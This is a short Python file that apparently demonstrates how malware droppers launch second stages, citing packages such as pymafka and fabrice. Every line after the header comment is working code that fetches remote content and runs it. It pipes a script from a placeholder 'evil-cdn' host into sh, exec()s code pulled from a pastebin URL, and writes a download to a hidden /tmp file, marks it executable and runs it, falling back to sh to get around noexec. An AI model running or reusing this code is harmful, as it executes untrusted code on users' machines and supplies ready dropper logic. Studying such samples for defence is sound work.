# Second stages, three ways droppers run them: a script piped into a
# shell (pymafka), code exec()d by Python from a paste site over HTTPS
# (certifo, bs5), a download written, made executable and run (fabrice),
# or given to sh where the file system will not run it (noexec).
import os, subprocess, urllib.request

sh = urllib.request.urlopen("http://get.evil-cdn.example/install.sh", timeout=5).read()
subprocess.run(["sh"], input=sh)

exec(urllib.request.urlopen("https://pastebin.com/raw/Xk3vQz9a", timeout=5).read())

data = urllib.request.urlopen("http://198.51.100.7/x/update.py", timeout=5).read()
path = "/tmp/.update"
with open(path, "wb") as f:
    f.write(data)
os.chmod(path, 0o755)
try:
    subprocess.run([path])
except PermissionError:
    subprocess.run(["sh", path])
print("stages ran")
